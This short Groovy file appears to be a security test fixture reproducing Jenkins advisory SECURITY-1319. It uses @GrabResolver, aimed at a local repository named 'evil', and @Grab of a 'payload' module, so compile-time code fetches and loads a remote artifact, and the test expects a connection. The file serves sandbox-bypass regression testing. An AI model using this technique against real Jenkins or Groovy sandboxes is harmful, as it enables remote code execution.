// class: compile-time
// source: Jenkins SECURITY-1319 (@GrabResolver)
// expect: connect
@GrabResolver(name = 'evil', root = 'http://127.0.0.1:@PORT@/repo')
@Grab(group = 'org.example.siteplan', module = 'payload', version = '1.0')
def x = 1
